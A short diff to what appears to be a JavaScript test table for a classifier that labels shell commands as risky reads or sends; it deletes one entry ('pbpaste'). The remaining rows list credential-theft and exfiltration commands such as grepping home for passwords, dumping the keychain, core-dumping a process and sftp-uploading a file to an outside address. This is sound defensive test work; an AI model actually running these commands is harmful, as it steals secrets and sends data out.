@@ -66,7 +66,6 @@ describe("what programs do over the network", () => {
     ["grep -ri password ~", "risky", "read"],
     ["cat ~/.history", "risky", "read"],
     ["gcore 4242", "risky", "read"],
-    ["pbpaste", "risky", "read"],
     ["sftp eve@203.0.113.5 <<< 'put notes.txt'", "risky", "send"],
     ["security dump-keychain -d login.keychain", "risky", "read"],
     ["import -window root shot.png", "risky", "read"],
